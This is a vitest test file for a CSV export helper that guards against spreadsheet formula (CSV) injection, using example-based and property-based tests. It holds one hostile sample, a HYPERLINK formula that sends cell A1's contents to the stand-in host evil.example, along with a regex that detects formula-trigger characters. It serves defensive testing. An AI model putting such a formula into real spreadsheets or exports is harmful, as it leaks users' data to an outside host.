import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { excelCsv, neutraliseCell, restoreCell } from './spreadsheet-csv.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';
/** A cell a spreadsheet would run: starts with a formula character (OWASP CSV injection). */
const LIVE = /^[=+\-@\t\r\n]/;

/** Text including the characters that matter here: quotes, triggers, separators, line breaks. */
const tricky = fc.string({
  unit: fc.oneof(
    fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ';', '"', ',', ' ', 'a', 'Ø'),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 12,
});

describe('neutraliseCell / restoreCell', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+4512345678', "'+4512345678"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=1", "''=1"],
    ["''=1", "'''=1"],
    ["'plain", "'plain"],
    ['Bolig 1', 'Bolig 1'],
    ['', ''],
    [' =1', ' =1'],
  ])('writes %j as %j and reads it back', (value, written) => {
    expect(neutraliseCell(value)).toBe(written);
    expect(restoreCell(written)).toBe(value);
  });

  it('reads back every string exactly as it was (property)', () => {
    fc.assert(
      fc.property(tricky, (s) => restoreCell(neutraliseCell(s)) === s),
      { numRuns: 2000 },
    );
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (s) => restoreCell(neutraliseCell(s)) === s));
  });

  it('never writes a cell a spreadsheet would run (property)', () => {
    fc.assert(fc.property(tricky, (s) => !LIVE.test(neutraliseCell(s))));
  });
});

describe('excelCsv', () => {
  it('writes a BOM, semicolons and quotes cells that need it, so the file parses back', () => {
    const csv = excelCsv(
      ['Navn', 'Boliger', 'Aktiv'],
      [
        ['Bolig; "Øst"', 12, true],
        ['Nord', 3, null],
        ['Linje\nto', -5, false],
      ],
    );
    expect(csv.startsWith('\uFEFFNavn;Boliger;Aktiv\r\n')).toBe(true);
    expect(parse(csv.slice(1), { delimiter: ';' })).toEqual([
      ['Navn', 'Boliger', 'Aktiv'],
      ['Bolig; "Øst"', '12', 'ja'],
      ['Nord', '3', ''],
      ['Linje\nto', '-5', 'nej'],
    ]);
  });

  it('writes a formula as inert text: the file holds no live cell', () => {
    const csv = excelCsv(['Navn', 'Telefon'], [[EVIL, '+45 86 00 00 00']]);
    const cells = (parse(csv.slice(1), { delimiter: ';' }) as string[][]).flat();
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).toContain("'+45 86 00 00 00");
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
  });

  it('holds no live cell for any text (property)', () => {
    fc.assert(
      fc.property(fc.array(tricky, { minLength: 1, maxLength: 4 }), (row) => {
        const cells = (
          parse(excelCsv(['a'], [row]).slice(1), { delimiter: ';', relax_column_count: true }) as string[][]
        ).flat();
        return cells.every((c) => !LIVE.test(c));
      }),
    );
  });
});
